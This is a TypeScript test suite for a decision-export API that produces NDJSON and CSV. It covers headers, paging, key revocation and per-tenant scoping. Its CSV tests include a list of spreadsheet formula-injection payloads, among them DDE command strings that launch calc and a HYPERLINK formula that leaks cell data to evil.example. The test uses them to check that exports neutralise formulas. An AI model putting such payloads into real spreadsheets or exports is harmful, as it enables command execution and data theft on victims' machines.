/**
 * `GET /decisions/export` (interface §Decisions): the same rows as the list, completely, as lines of JSON and for
 * spreadsheets.
 */
import { createHash } from 'node:crypto';
import { type Caller, exportDecisions } from '@svc/service';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { ADMIN_TOKEN } from '../../world/api-node.ts';
import { insertDecisionRows, newDecisionRow } from '../../world/decision-rows.ts';
import { withDeployment } from '../../world/deployment.ts';
import { issueGrant, receiptOf, type Tenants, verifyBody } from '../../world/tenants.ts';

const deployment = withDeployment();
let orgId: string;
let own: Tenants;

beforeAll(async () => {
  orgId = await deployment.createOrg();
  own = await deployment.createTenants({ orgId });
});

type Row = Record<string, unknown> & { readonly receipt_id: string };

const get = (key: string, path: string) => deployment.call('GET', path, { key });
const exportPage = async (key: string, query: string) => {
  const { status, headers, text } = await get(key, `/decisions/export?${query}`);
  expect(status).toBe(200);
  return {
    headers,
    text,
    rowCount: Number(headers['x-svc-rows']),
    nextCursor: String(headers['x-svc-next-cursor']),
  };
};
const linesOf = (text: string): Row[] =>
  text
    .split('\n')
    .slice(0, -1)
    .map((line) => JSON.parse(line));
/** Removes the marks that keep a spreadsheet from reading a cell as a formula. */
const asStored = (cell: string) => cell.replace(/(?<=^|[;|\t])'/g, '');
const recordsOf = (text: string): Record<string, string>[] => parse(text, { columns: true });

const verify = async (tenants: Tenants, body: unknown) =>
  receiptOf(await deployment.call('POST', '/verify', { key: tenants.rpKey, body }));
const verifyAllowed = async (tenants: Tenants) =>
  verify(tenants, await verifyBody(tenants, await issueGrant(tenants)));
const denied = (resource: string) => ({
  grant: '',
  proof: '',
  action: { type: 'commerce:purchase', resource, amount: 1, currency: 'USD' },
});
const report = async (receiptId: string, note: string) => {
  const body = { type: 'fulfilled', occurred_at: '2026-11-20T08:00:00Z', note };
  const path = `/decisions/${receiptId}/outcomes`;
  expect((await deployment.call('POST', path, { key: own.rpKey, body })).status).toBe(201);
};

describe('GET /decisions/export as NDJSON', () => {
  it('writes per decision one line: the list’s summary, the Receipt byte for byte and the outcomes', async () => {
    const { receipt_id } = await verifyAllowed(own);
    await report(receipt_id, 'line 1\nline 2 "é" \u2028');
    await report(receipt_id, 'again');
    await verify(own, denied('order/9'));
    const { headers, text, rowCount, nextCursor } = await exportPage(own.rpKey, '');
    expect(headers).toMatchObject({
      'content-type': 'application/x-ndjson',
      'content-disposition': 'attachment; filename="decisions.ndjson"',
      'cache-control': 'no-store',
    });
    const listed = (await get(own.rpKey, '/decisions')).json.decisions as Row[];
    expect([rowCount, nextCursor]).toEqual([listed.length, '']);
    const lines = text.split('\n').slice(0, -1);
    expect(lines).toHaveLength(listed.length);
    for (const [i, summary] of listed.entries()) {
      const whole = (await get(own.rpKey, `/decisions/${summary.receipt_id}`)).text;
      expect(lines[i]).toBe(`${JSON.stringify(summary).slice(0, -1)},${whole.slice(1)}`);
    }
    expect(text).toContain('again');
  });

  it('is the default; another format or a bad limit is refused with 400', async () => {
    expect((await exportPage(own.rpKey, 'limit=1')).text).toBe(
      (await exportPage(own.rpKey, 'limit=1&format=ndjson')).text,
    );
    for (const query of ['format=xml', 'format=', 'format=CSV', 'limit=0', 'limit=5001', 'limit=5e3'])
      expect([query, (await get(own.rpKey, `/decisions/export?${query}`)).status]).toEqual([query, 400]);
  });

  it('is empty for no rows, with a row count of 0 and no cursor', async () => {
    const { text, rowCount, nextCursor } = await exportPage(own.rpKey, 'reason=ISSUER_NOT_TRUSTED');
    expect([text, rowCount, nextCursor]).toEqual(['', 0, '']);
  });

  it('answers HEAD with the number of rows and no body', async () => {
    const { headers, text } = await deployment.call('HEAD', '/decisions/export?limit=1', { key: own.rpKey });
    expect([headers['x-svc-rows'], text]).toEqual(['1', '']);
  });
});

describe('GET /decisions/export as CSV', () => {
  it('has a header, the summary’s members, outcomes and the JWS as columns, and CRLF line ends (RFC 4180)', async () => {
    const { receipt_id, receipt } = await verifyAllowed(own);
    await report(receipt_id, 'one, "two"');
    const { headers, text, rowCount } = await exportPage(own.rpKey, 'format=csv&limit=1');
    expect(headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
    expect(headers['content-disposition']).toBe('attachment; filename="decisions.csv"');
    const [line] = linesOf((await exportPage(own.rpKey, 'limit=1')).text);
    const { outcomes, receipt: _, ...summary }: Record<string, unknown> = line ?? {};
    const texts = Object.entries(summary).map(([name, value]) => [name, value === null ? '' : String(value)]);
    const [record, ...more] = recordsOf(text);
    expect([rowCount, more]).toEqual([1, []]);
    expect(record).toEqual({
      ...Object.fromEntries(texts),
      outcomes: JSON.stringify(outcomes),
      receipt,
    });
    expect(Object.keys(record ?? {})).toEqual([...Object.keys(summary), 'outcomes', 'receipt']);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
  });

  it('is the header alone for no rows', async () => {
    const { text } = await exportPage(own.rpKey, 'format=csv&reason=ISSUER_NOT_TRUSTED');
    expect([text.split('\r\n').length, recordsOf(text)]).toEqual([2, []]);
  });

  const FORMULAS = [
    '=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+1+1',
    '-1+1',
    "-2+3+cmd|' /C calc'!D2",
    '=1+1";=1+1',
    '=1+1\r\n=2',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00a0=1+1',
    '\u3000=1+1',
    '\ufeff=1+1',
    '\u200b=1+1',
    '\u202e=1+1',
    '\u0001=1+1',
    '"=1+1"',
    "'=1+1",
    "''=1+1",
    '`=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    '﹦1+1',
  ];
  const HARMLESS = [
    'order/1',
    'a=b',
    '1-1',
    'x@y',
    "it's",
    'a,b',
    'a;b',
    '"quoted"',
    'a\r\nb',
    'ends=',
    '   ',
    '漢字',
    '\u{1F6D2}',
  ];

  it('has no cell that a spreadsheet takes for a formula, and the stored text of each can be recovered', async () => {
    const shop = await deployment.createTenants({ orgId });
    const sent = new Map<string, string>();
    for (const resource of [...FORMULAS, ...HARMLESS])
      sent.set((await verify(shop, denied(resource))).receipt_id, resource);
    const { text, rowCount } = await exportPage(shop.rpKey, 'format=csv');
    const records = recordsOf(text);
    expect([rowCount, records.length]).toEqual([sent.size, sent.size]);
    for (const { receipt_id = '', resource = '' } of records) {
      expect(asStored(resource)).toBe(sent.get(receipt_id));
      if (HARMLESS.includes(sent.get(receipt_id) ?? '')) expect(resource).toBe(sent.get(receipt_id));
    }
    // Cells as a program reads them that trims leading whitespace and invisible characters.
    const cells = records.flatMap((record) => Object.values(record));
    for (const cell of cells)
      expect(cell.replace(/^[\s"`\p{Cc}\p{Cf}]+/u, '')).not.toMatch(/^[=+\-@＝＋－＠﹦﹢﹣﹫]/);
    expect(cells.filter((cell) => /^[\t\r\n]/.test(cell))).toEqual([]);
  });
});

describe('The pages of GET /decisions/export', () => {
  const STORED = 700;
  let shop: Tenants;

  beforeAll(async () => {
    shop = await deployment.createTenants({ orgId });
    const { receipt } = await verifyAllowed(shop);
    const rows = Array.from({ length: STORED - 1 }, (_, i) =>
      newDecisionRow(Date.now() - 5_000 + i, {
        rp: shop.rpDid,
        principal: shop.principalDid,
        reason: i % 4 === 0 ? 'GRANT_EXPIRED' : null,
      }),
    );
    await insertDecisionRows(deployment.sql, rows, receipt);
  });

  it.each(['ndjson', 'csv'])(
    'in %s make up the whole list; a full last page has no cursor',
    async (format) => {
      const key = await deployment.createKey('org:read', orgId);
      const listed: string[] = [];
      for (let cursor: unknown = ''; cursor !== null; ) {
        const { json } = await get(
          key,
          `/decisions?limit=200&rp=${shop.rpDid}${cursor && `&cursor=${cursor}`}`,
        );
        listed.push(...(json.decisions as Row[]).map(({ receipt_id }) => receipt_id));
        cursor = json.next_cursor;
      }
      expect(listed).toHaveLength(STORED);
      for (const limit of [300, STORED / 2, 5_000]) {
        const exported: unknown[] = [];
        const counts: number[] = [];
        for (let cursor: string | null = ''; cursor !== null; ) {
          const query = `format=${format}&limit=${limit}&rp=${shop.rpDid}${cursor && `&cursor=${cursor}`}`;
          const { text, rowCount, nextCursor } = await exportPage(key, query);
          const ids = (format === 'csv' ? recordsOf(text) : linesOf(text)).map(
            ({ receipt_id }) => receipt_id,
          );
          expect(ids).toHaveLength(rowCount);
          exported.push(...ids);
          counts.push(rowCount);
          cursor = nextCursor === '' ? null : nextCursor;
        }
        expect(exported).toEqual(listed);
        expect(counts).toEqual({ 300: [300, 300, 100], 350: [350, 350], 5000: [STORED] }[limit]);
      }
    },
  );

  it('end once the key is revoked during the export: the next batch fails with UNAUTHORIZED', async () => {
    const { service } = deployment.process;
    const value = await deployment.createKey('rp', shop.rpDid);
    const hash = createHash('sha256').update(value).digest('hex');
    const [key] = await service.store.apiKeys.findByHashes([hash]);
    if (key == null) throw new Error('the key is not stored');
    const caller = { class: 'rp', subject: shop.rpDid, keyId: key.keyId, key } as unknown as Caller;
    const { rowCount, batches } = await exportDecisions(service, caller, { limit: 5_000 }, 'jws');
    expect(rowCount).toBe(STORED);
    const rows = batches[Symbol.asyncIterator]();
    expect((await rows.next()).value).toHaveLength(128);
    const revoked = await deployment.call('POST', `/api-keys/${key.keyId}/revoke`, { key: ADMIN_TOKEN });
    expect(revoked.status).toBe(200);
    await expect(rows.next()).rejects.toMatchObject({ code: 'UNAUTHORIZED' });
  });

  it('accept a cursor of GET /decisions, and the same filters', async () => {
    const { json } = await get(shop.rpKey, '/decisions?limit=10');
    const exported = await exportPage(shop.rpKey, `limit=10&cursor=${json.next_cursor}`);
    const next = await get(shop.rpKey, `/decisions?limit=10&cursor=${json.next_cursor}`);
    const ids = (next.json.decisions as Row[]).map(({ receipt_id }) => receipt_id);
    expect(linesOf(exported.text).map(({ receipt_id }) => receipt_id)).toEqual(ids);
    expect((await exportPage(shop.rpKey, 'reason=GRANT_EXPIRED')).rowCount).toBe(Math.ceil((STORED - 1) / 4));
  });

  it('hold only decisions of the key’s subject, also from a cursor of the operator; another’s rp is a 404', async () => {
    const { nextCursor } = await exportPage(ADMIN_TOKEN, 'limit=1');
    const rows = linesOf((await exportPage(own.rpKey, `cursor=${nextCursor}`)).text);
    expect(new Set(rows.map(({ rp }) => rp))).toEqual(new Set([own.rpDid]));
    const refused = await get(own.rpKey, `/decisions/export?rp=${shop.rpDid}`);
    expect(refused.status).toBe(404);
  });

  it('carry outcome ledgers of about 1 MB, each with its own decision', async () => {
    const note = 'x'.repeat(2_000);
    const ids: string[] = [];
    for (let i = 0; i < 3; i++) ids.push((await verifyAllowed(own)).receipt_id);
    // About 1 MB each: more than one read of the export.
    await deployment.sql.query(
      `insert into attestations (attestation_id, receipt_id, ordinal, relying_party, evaluated_at, decision, type,
         occurred_at, note)
       select 'oat_' || substr(r.receipt_id, 5, 23) || lpad(n::text, 3, '0'), r.receipt_id, n, r.relying_party,
         r.evaluated_at, r.decision, 'fulfilled', '2026-11-20T08:00:00Z', n || repeat($2, 5)
       from receipts r, generate_series(1, 100) n where r.receipt_id = any ($1)`,
      [ids, note],
    );
    const rows = linesOf((await exportPage(own.rpKey, '')).text);
    for (const id of ids) {
      const { outcomes = [] } = rows.find(({ receipt_id }) => receipt_id === id) as {
        outcomes?: { note: string }[];
      };
      const notes = outcomes.map((outcome) => outcome.note);
      expect(notes).toEqual(Array.from({ length: 100 }, (_, n) => `${n + 1}${note.repeat(5)}`));
    }
  });
});
